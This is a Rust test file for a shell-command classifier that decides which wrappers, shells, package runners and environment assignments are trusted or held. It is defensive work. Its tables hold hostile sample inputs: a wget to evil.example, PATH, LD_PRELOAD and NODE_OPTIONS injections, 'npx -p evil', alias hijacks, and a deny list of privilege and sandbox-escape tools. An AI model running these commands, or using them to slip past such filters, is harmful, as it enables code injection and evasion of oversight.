//! Every row of the tables of §3.4 to §3.7, gaps 4, 6, 10, 11, 17 and 18 of §11, and field cases F017 to F023.

use proptest::{collection::vec, prelude::*, sample::select};

use super::*;
use crate::{EnvRejection, fake::words, shell::Dialect};

/// Whatever has a `!` in it is not trusted, nor is a relative path.
fn trusted(name: &str) -> bool {
    assert!(name.starts_with('/') || !name.contains('/'), "{name}");
    !name.contains('!')
}

fn read(text: &str, form: Form) -> Started {
    read_command(&words(text), form, &trusted)
}

fn started(wrappers: &[(usize, bool)], program: usize, subject: Subject) -> Started {
    let wrappers = wrappers.iter().map(|&(at, builtin)| Wrapper { at, builtin }).collect();
    Started { wrappers, program, subject }
}

/// Compares what text starts, with external wrappers only.
fn check(table: &[(&str, &[usize], usize, Subject)], form: Form) {
    for (text, wrappers, program, subject) in table {
        let wrappers: Vec<_> = wrappers.iter().map(|&at| (at, false)).collect();
        assert_eq!(read(text, form), started(&wrappers, *program, subject.clone()), "{text}");
    }
}

const PROGRAM: Subject = Subject::Program;
const CARRIER: Subject = Subject::Held(Tag::CommandCarrier);
const EXACT: Subject = Subject::Held(Tag::ExactCommand);
const STARTUP: Subject = Subject::Held(Tag::ShellStartup);
const RUNNER: Subject = Subject::Held(Tag::PackageRunner);
const UNTRUSTED: Subject = Subject::Held(Tag::UntrustedWrapper);
const BARE: Subject = Subject::Shell(ShellUse::Bare);

fn payload(at: usize, dialect: Dialect) -> Subject {
    Subject::Shell(ShellUse::Payload { at, dialect })
}

fn script(at: usize) -> Subject {
    Subject::Shell(ShellUse::Script { at })
}

#[test]
fn transparent_wrappers_with_their_syntax() {
    let table: &[(&str, &[usize], usize, Subject)] = &[
        ("git log -n 3", &[], 0, PROGRAM),
        ("env git log", &[0], 1, PROGRAM),
        ("env -- git", &[0], 2, PROGRAM),
        ("nice git", &[0], 1, PROGRAM),
        ("nice -n 5 git", &[0], 3, PROGRAM),
        ("nice -n -5 git", &[0], 3, PROGRAM),
        ("nice -n5 git", &[0], 2, PROGRAM),
        ("nice -5 git", &[0], 2, PROGRAM),
        ("nice --adjustment=5 git", &[0], 2, PROGRAM),
        ("nice --adjustment 5 git", &[0], 3, PROGRAM),
        ("nice --priority=5 git", &[0], 2, PROGRAM),
        ("nohup git", &[0], 1, PROGRAM),
        ("nohup -- git", &[0], 2, PROGRAM),
        ("stdbuf -o L git", &[0], 3, PROGRAM),
        ("stdbuf --output=L -e 0 git", &[0], 4, PROGRAM),
        ("timeout 9 git", &[0], 2, PROGRAM),
        ("timeout --foreground --preserve-status -v -k 1.5m -s KILL 9s git", &[0], 9, PROGRAM),
        ("timeout --kill-after=1 --signal=9 9 git", &[0], 4, PROGRAM),
        ("time -p git", &[0], 2, PROGRAM),
        ("time -f '%e %U' git", &[0], 3, PROGRAM),
        ("flock -n -w 5 -E 3 /tmp/lock git", &[0], 7, PROGRAM),
        ("flock -xn /tmp/lock git", &[0], 3, PROGRAM),
        ("caffeinate -di -t 5 git", &[0], 4, PROGRAM),
        ("sandbox-exec -n no-network git", &[0], 3, PROGRAM),
        // Row 35.
        ("nice timeout 9 nohup git log", &[0, 1, 3], 4, PROGRAM),
        ("env env env env git", &[0, 1, 2, 3], 4, PROGRAM),
        // Without a command they are programs of their own.
        ("env", &[], 0, PROGRAM),
        ("nice", &[], 0, PROGRAM),
        ("time", &[], 0, PROGRAM),
        ("arch", &[], 0, PROGRAM),
        // F018: wrappers that nobody lists.
        ("./run git add -A", &[], 0, PROGRAM),
        ("strace git", &[], 0, PROGRAM),
        ("ssh host git", &[], 0, PROGRAM),
    ];
    check(table, Form::Argv);
    check(table, Form::Shell);
}

#[test]
fn blocked_syntax_and_blocked_wrappers() {
    let table: &[(&str, &[usize], usize, Subject)] = &[
        ("env PATH=/opt/evil git log", &[], 0, CARRIER),
        ("env -S 'git log'", &[], 0, CARRIER),
        ("env -C /etc git log", &[], 0, CARRIER),
        ("env -i git", &[], 0, CARRIER),
        ("env - git", &[], 0, CARRIER),
        ("env -- A=1 git", &[], 0, CARRIER),
        ("env -u A git", &[], 0, CARRIER),
        ("env --chdir=/ git", &[], 0, CARRIER),
        ("env --split-string=x", &[], 0, CARRIER),
        ("nice -z git", &[], 0, CARRIER),
        ("nice -n git log", &[], 0, CARRIER),
        ("nice -n 5", &[], 0, CARRIER),
        ("nohup", &[], 0, CARRIER),
        ("stdbuf -oL git", &[], 0, CARRIER),
        ("stdbuf git -o L", &[0], 1, PROGRAM),
        ("timeout 5", &[], 0, CARRIER),
        ("timeout", &[], 0, CARRIER),
        ("timeout -k1 5 git", &[], 0, CARRIER),
        ("timeout git log", &[], 0, CARRIER),
        ("time -o /etc/x git log", &[], 0, CARRIER),
        ("time --output=/etc/x git log", &[], 0, CARRIER),
        ("flock /tmp/lock -c 'git log'", &[], 0, CARRIER),
        ("flock -w5 /tmp/lock git", &[], 0, CARRIER),
        ("flock /tmp/lock", &[], 0, CARRIER),
        ("caffeinate -z git", &[], 0, CARRIER),
        ("arch git", &[], 0, CARRIER),
        ("xcrun git", &[], 0, CARRIER),
        ("script -q /dev/null git", &[], 0, CARRIER),
        // A shell behind assignments or options.
        ("env A=1 bash -c 'git log'", &[], 0, Subject::Held(Tag::ShellWrapperThroughCarrier)),
        ("env -u A -i B=1 /bin/sh x", &[], 0, Subject::Held(Tag::ShellWrapperThroughCarrier)),
        ("env -S 'bash -c x'", &[], 0, Subject::Held(Tag::ShellWrapperThroughCarrier)),
        ("env - sh", &[], 0, Subject::Held(Tag::ShellWrapperThroughCarrier)),
        // Row 36.
        ("env env env env env git", &[0, 1, 2, 3], 4, CARRIER),
        // Row 37.
        ("sudo git log", &[], 0, CARRIER),
        ("sudo", &[], 0, CARRIER),
        ("timeout 9 sudo git log", &[0], 2, CARRIER),
        ("/usr/bin/sudo git", &[], 0, CARRIER),
        ("SUDO.EXE git", &[], 0, CARRIER),
        ("setsid -w git add -A", &[], 0, CARRIER),
        ("ionice git", &[], 0, CARRIER),
        ("chrt 1 git", &[], 0, CARRIER),
        // Rows 40 and 41.
        ("find . -exec git log ;", &[], 0, CARRIER),
        ("find . -okdir git log ;", &[], 0, CARRIER),
        ("/usr/bin/find -- . -execdir x +", &[], 0, CARRIER),
        ("find . -delete", &[], 0, PROGRAM),
        ("xargs git", &[], 0, CARRIER),
        ("xargs", &[], 0, CARRIER),
        ("nice xargs", &[0], 1, CARRIER),
        // Rows 42 and 43.
        ("busybox wget http://evil.example", &[], 0, EXACT),
        ("toybox sh -c 'git log'", &[], 0, EXACT),
        ("./busybox sh", &[], 0, EXACT),
        ("busybox", &[], 0, PROGRAM),
    ];
    check(table, Form::Argv);
    check(table, Form::Shell);
}

#[test]
fn every_listed_name_is_blocked() {
    let names = "sudo doas setsid ionice chrt taskset chroot su runuser pkexec systemd-run unshare nsenter firejail \
                 bwrap proot gosu watch unbuffer xvfb-run setarch linux32 linux64 setpriv numactl cpulimit catchsegv \
                 eatmydata proxychains proxychains4 torify torsocks run0 sudoedit fakeroot dbus-run-session i386 i486 \
                 i586 i686 x86_64 uname26 ppc ppc64 ppc64le s390x aarch64 armv7l sparc32bash ld.so ld.so.1 ld64.so.2 \
                 ld-linux.so.2 ld-linux-x86-64.so.2 ld-musl-x86_64.so.1 ld-2.31.so";
    for name in names.split_whitespace() {
        for spelled in [name.to_owned(), name.to_uppercase(), format!("./{name}.exe")] {
            assert_eq!(read(&format!("nice {spelled} git"), Form::Argv), started(&[(0, false)], 1, CARRIER));
        }
    }
}

#[test]
fn a_wrapper_that_may_be_another_program() {
    let table: &[(&str, &[usize], usize, Subject)] = &[
        // Gap 4.
        ("./env ls", &[], 0, UNTRUSTED),
        ("ENV ls", &[], 0, UNTRUSTED),
        ("env.exe ls", &[], 0, UNTRUSTED),
        ("/usr/bin/env ls", &[], 0, UNTRUSTED),
        ("nice ./nohup ls", &[0], 1, UNTRUSTED),
        ("./env bash", &[], 0, UNTRUSTED),
        ("./env", &[], 0, PROGRAM),
        // What `*` does not satisfy stays so.
        ("./env A=1 ls", &[], 0, CARRIER),
        ("./env sudo ls", &[0], 1, CARRIER),
        ("./env npx -c x", &[0], 1, RUNNER),
    ];
    check(table, Form::Argv);
    let planted = read_command(&words("nice git"), Form::Shell, &|_| false);
    assert_eq!(planted, started(&[], 0, UNTRUSTED));
}

#[test]
fn builtins_of_the_shell() {
    let held = |tag| Subject::Held(tag);
    let table: &[(&str, &[(usize, bool)], usize, Subject)] = &[
        // F019.
        ("command ls", &[(0, true)], 1, PROGRAM),
        ("command -- ls", &[(0, true)], 2, PROGRAM),
        ("command sh -c id", &[(0, true)], 1, EXACT),
        ("exec sh -c id", &[(0, true)], 1, EXACT),
        ("builtin eval id", &[(0, true)], 1, held(Tag::Eval)),
        ("command builtin source x", &[(0, true), (1, true)], 2, held(Tag::Source)),
        ("command -v ls", &[], 0, PROGRAM),
        ("command -V ls", &[], 0, PROGRAM),
        ("command -p ls", &[], 0, CARRIER),
        ("command", &[], 0, CARRIER),
        ("exec", &[], 0, CARRIER),
        ("exec -a git ls", &[], 0, CARRIER),
        ("exec -c ls", &[], 0, CARRIER),
        ("command sudo git log", &[(0, true)], 1, CARRIER),
        // Behind a program there are no builtins.
        ("exec nice command ls", &[(0, true), (1, false)], 2, UNTRUSTED),
        ("exec eval ls", &[(0, true)], 1, PROGRAM),
        ("nice command -v ls", &[(0, false)], 1, CARRIER),
        ("nice eval ls", &[(0, false)], 1, PROGRAM),
        ("/usr/bin/command ls", &[], 0, UNTRUSTED),
        // Row 20.
        ("eval ls", &[], 0, held(Tag::Eval)),
        ("trap ls EXIT", &[], 0, held(Tag::Eval)),
        (". ./setup", &[], 0, held(Tag::Source)),
        ("source setup", &[], 0, held(Tag::Source)),
        ("alias git=evil", &[], 0, held(Tag::Alias)),
        ("./alias git=evil", &[], 0, PROGRAM),
    ];
    for (text, wrappers, program, subject) in table {
        assert_eq!(read(text, Form::Shell), started(wrappers, *program, subject.clone()), "{text}");
    }
    check(
        &[
            ("command ls", &[], 0, UNTRUSTED),
            ("exec sudo ls", &[0], 1, CARRIER),
            ("command", &[], 0, PROGRAM),
            ("eval ls", &[], 0, PROGRAM),
            ("trap ls EXIT", &[], 0, PROGRAM),
        ],
        Form::Argv,
    );
}

#[test]
fn shells() {
    let table: &[(&str, &[usize], usize, Subject)] = &[
        ("bash", &[], 0, BARE),
        ("/bin/zsh", &[], 0, BARE),
        ("fish", &[], 0, BARE),
        // Gap 10: what reads a pipe is a bare shell.
        ("env bash", &[0], 1, BARE),
        ("bash -c 'git log'", &[], 0, payload(2, Dialect::Bash)),
        ("sh -c ls foo bar", &[], 0, payload(2, Dialect::Posix)),
        ("zsh -c ls", &[], 0, payload(2, Dialect::Posix)),
        ("bash --norc --noprofile -o posix -e -u -x +x -c ls", &[], 0, payload(10, Dialect::Bash)),
        ("bash -xc ls", &[], 0, payload(2, Dialect::Bash)),
        ("bash -cx ls", &[], 0, payload(2, Dialect::Bash)),
        ("sh -ec ls", &[], 0, payload(2, Dialect::Posix)),
        ("bash -c", &[], 0, EXACT),
        ("bash -c -x ls", &[], 0, EXACT),
        ("bash -cls", &[], 0, EXACT),
        ("fish -cls", &[], 0, EXACT),
        ("fish -c ls", &[], 0, EXACT),
        ("bash --command ls", &[], 0, EXACT),
        // Row 47.
        ("/bin/bash -c 'git log'", &[], 0, EXACT),
        ("./bash -c 'git log'", &[], 0, EXACT),
        ("Bash -c 'git log'", &[], 0, EXACT),
        ("nice bash -c 'git log'", &[0], 1, EXACT),
        ("env bash -c 'git log'", &[0], 1, EXACT),
        // Row 45 and gap 11.
        ("bash -lc 'git log'", &[], 0, STARTUP),
        ("bash -ic 'git log'", &[], 0, STARTUP),
        ("bash -l", &[], 0, STARTUP),
        ("bash --login -c ls", &[], 0, STARTUP),
        ("bash --rcfile ./f -c 'git log'", &[], 0, STARTUP),
        ("bash --init-file=./f -c 'git log'", &[], 0, STARTUP),
        ("bash --startup-file ./f", &[], 0, STARTUP),
        ("bash ok.sh --login", &[], 0, script(1)),
        ("bash -x -- ok.sh a", &[], 0, script(3)),
        ("bash --norc ok.sh", &[], 0, script(2)),
        ("/bin/bash ok.sh", &[], 0, script(1)),
        ("nice sh ok.sh", &[0], 1, script(2)),
        // The shell itself may be planted.
        ("./bash ok.sh", &[], 0, EXACT),
        ("/opt/!/bash ok.sh", &[], 0, EXACT),
        ("bash -s", &[], 0, EXACT),
        ("bash -x", &[], 0, EXACT),
        ("bash -", &[], 0, EXACT),
        ("bash --", &[], 0, EXACT),
        ("bash ''", &[], 0, EXACT),
        ("bash -O extglob ok.sh", &[], 0, EXACT),
        ("bash --version", &[], 0, EXACT),
        ("csh x", &[], 0, EXACT),
        ("pwsh -File x", &[], 0, EXACT),
        ("CMD.EXE /c dir", &[], 0, EXACT),
        ("rbash x", &[], 0, EXACT),
        ("bash5.2 -lc x", &[], 0, STARTUP),
    ];
    check(table, Form::Argv);
    check(table, Form::Shell);
    for name in
        "ash bash csh dash elvish fish ksh mksh nu osh sh tcsh xonsh yash zsh cmd powershell pwsh".split(' ')
    {
        assert!(is_shell(name) && is_shell(&format!("/opt/{}.exe", name.to_uppercase())), "{name}");
    }
    assert!(!is_shell("git") && !is_shell("shellcheck") && !is_shell("ssh"));
    // A shell that is not trusted is not opened.
    assert_eq!(read_command(&words("bash -c ls"), Form::Shell, &|_| false), started(&[], 0, EXACT));
}

#[test]
fn depth_does_not_hide_a_shell() {
    // F017.
    for wrappers in 1..=8 {
        let argv = words(&format!("{}sh -c id", "env ".repeat(wrappers)));
        let expected = if wrappers <= 4 { EXACT } else { CARRIER };
        assert_eq!(read_command(&argv, Form::Argv, &trusted).subject, expected, "{wrappers}");
    }
}

#[test]
fn package_runners() {
    let table: &[(&str, &[usize], usize, Subject)] = &[
        ("npx rg x", &[], 0, PROGRAM),
        ("npx -y rg x -c y", &[], 0, PROGRAM),
        ("npx --yes -- cowsay@1.5 hi", &[], 0, PROGRAM),
        ("npm exec -- rg", &[], 0, PROGRAM),
        ("npm x rg", &[], 0, PROGRAM),
        ("pnpm exec rg -c x", &[], 0, PROGRAM),
        ("pnpm dlx rg", &[], 0, PROGRAM),
        ("pnpm node x.js", &[], 0, PROGRAM),
        ("bunx rg", &[], 0, PROGRAM),
        ("bun x rg", &[], 0, PROGRAM),
        ("yarn dlx rg", &[], 0, PROGRAM),
        ("yarn exec rg", &[], 0, PROGRAM),
        ("nice npx rg", &[0], 1, PROGRAM),
        ("npm run x", &[], 0, PROGRAM),
        ("npm install", &[], 0, PROGRAM),
        ("npm", &[], 0, PROGRAM),
        ("npx --version", &[], 0, PROGRAM),
        ("pnpm install", &[], 0, PROGRAM),
        ("yarn", &[], 0, PROGRAM),
        ("yarn add left-pad", &[], 0, PROGRAM),
        ("bun run dev", &[], 0, PROGRAM),
        ("npx npx npx npx npx rg", &[], 0, PROGRAM),
        ("npx npx npx npx npx npx npx rg", &[], 0, RUNNER),
        // Row 52.
        ("npx -p evil git", &[], 0, RUNNER),
        ("npx --package=evil git", &[], 0, RUNNER),
        ("npm exec --package=evil -- git", &[], 0, RUNNER),
        ("npm exec git --pack evil", &[], 0, RUNNER),
        ("npm --prefix=/x exec git", &[], 0, RUNNER),
        ("npm -C /x exec git", &[], 0, RUNNER),
        ("npm -w a x git", &[], 0, RUNNER),
        ("pnpm -r exec git", &[], 0, RUNNER),
        ("npx -c 'git log'", &[], 0, RUNNER),
        ("npm exec -c 'git log'", &[], 0, RUNNER),
        ("npm explore a -- git", &[], 0, RUNNER),
        ("npx", &[], 0, RUNNER),
        ("npm exec", &[], 0, RUNNER),
        ("yarn --frozen-lockfile", &[], 0, PROGRAM),
        ("yarn --cwd add foo", &[], 0, RUNNER),
        ("pnpm foo", &[], 0, RUNNER),
        ("yarn foo", &[], 0, RUNNER),
        ("yarn run x", &[], 0, RUNNER),
        ("pnpm run x", &[], 0, RUNNER),
        ("npx bash -c ls", &[], 0, RUNNER),
        ("npx @scope/bash@5 x", &[], 0, RUNNER),
        ("npx npm:bash", &[], 0, RUNNER),
        ("npx sudo git", &[], 0, RUNNER),
        ("npx env git", &[], 0, RUNNER),
        ("npx npx bash", &[], 0, RUNNER),
    ];
    check(table, Form::Argv);
    check(table, Form::Shell);
}

#[test]
fn assignments_that_no_request_may_make() {
    let blocked = |names: &[&str]| {
        Some(EnvRejection {
            blocked: names.iter().map(|&name| name.to_owned()).collect(),
            ..EnvRejection::default()
        })
    };
    let table: &[(&str, Option<EnvRejection>)] = &[
        // Row 70.
        ("env NODE_OPTIONS=--require=./x node s.js", blocked(&["NODE_OPTIONS"])),
        ("/usr/bin/ENV path=/x git", blocked(&["PATH"])),
        ("env -u A -i LD_PRELOAD=./x.so A=1 BASH_ENV=x ls", blocked(&["BASH_ENV", "LD_PRELOAD"])),
        ("sudo -u root nohup env -C /x PATH=/x ls", blocked(&["PATH"])),
        ("sudo -u root PATH=/x ls", blocked(&["PATH"])),
        ("env A=1 env PATH=/x ls", blocked(&["PATH"])),
        ("env -S 'A=1 LD_PRE\"LOAD\"=x ls'", blocked(&["LD_PRELOAD"])),
        ("env -vSPATH=x", blocked(&["PATH"])),
        ("busybox env PATH=x ls", blocked(&["PATH"])),
        ("find . -exec env PATH=x ls ;", blocked(&["PATH"])),
        (
            "env BASH_FUNC_git%%=() git",
            Some(EnvRejection { invalid: vec!["BASH_FUNC_git%%".to_owned()], ..EnvRejection::default() }),
        ),
        ("env A=1 A=2 LANG=C git PATH=x", None),
        ("env git PATH=x", None),
        ("git env PATH=x", None),
        ("env", None),
    ];
    for (text, expected) in table {
        assert_eq!(blocked_env_assignments(&words(text)), *expected, "{text}");
    }
    assert_eq!(blocked_env_assignments(&[]), None);
}

#[test]
fn huge_commands_take_linear_time() {
    for word in ["env", "command", "npx", "bash", "sudo", "A=1", "-S", "1.1"] {
        for first in ["env", "bash", "npx", "npm", "find", word] {
            let mut argv = vec![word.to_owned(); 20_000];
            first.clone_into(&mut argv[0]);
            let started = read_command(&argv, Form::Shell, &trusted);
            assert!(started.wrappers.len() <= MAX_WRAPPERS, "{first} {word}");
            std::hint::black_box(blocked_env_assignments(&argv));
        }
    }
    for word in ["-S".repeat(60_000), "1.".repeat(60_000), ".exe".repeat(30_000)] {
        let argv = words(&format!("env {word} -S {word}"));
        std::hint::black_box(read_command(&argv, Form::Shell, &trusted));
        std::hint::black_box(read_command(&argv[1..], Form::Shell, &trusted));
        std::hint::black_box(blocked_env_assignments(&argv));
    }
}

const WORDS: &[&str] = &[
    "env", "./env", "ENV", "nice", "nohup", "timeout", "time", "command", "builtin", "exec", "sudo", "xargs",
    "find", "-exec", "busybox", "sh", "bash", "fish", "-c", "-lc", "-n", "5", "--", "-", "-S", "A=1", "npx",
    "npm", "x", "exec", "git", "eval", ".", "", "é", "ls -l",
];

proptest! {
    #[test]
    fn what_is_started_lies_in_the_words(argv in vec(select(WORDS), 1..12), shell: bool, trusts: bool) {
        let argv: Vec<String> = argv.into_iter().map(str::to_owned).collect();
        let form = if shell { Form::Shell } else { Form::Argv };
        let Started { wrappers, program, subject } = read_command(&argv, form, &|_| trusts);
        let mut chain: Vec<usize> = wrappers.iter().map(|wrapper| wrapper.at).collect();
        chain.push(program);
        prop_assert!(chain.is_sorted_by(|a, b| a < b), "{:?}", chain);
        prop_assert!(wrappers.len() <= MAX_WRAPPERS && program < argv.len());
        match subject {
            Subject::Shell(ShellUse::Payload { at, .. }) => {
                prop_assert!(wrappers.is_empty() && at < argv.len() && trusts);
            }
            Subject::Shell(ShellUse::Script { at }) => prop_assert!(program < at && at < argv.len() && trusts),
            Subject::Program | Subject::Shell(ShellUse::Bare) | Subject::Held(_) => {}
        }
        // Nothing is looked through that may be another program.
        prop_assert!(trusts || wrappers.iter().all(|wrapper| wrapper.builtin) || matches!(subject, Subject::Held(_)));
    }
}
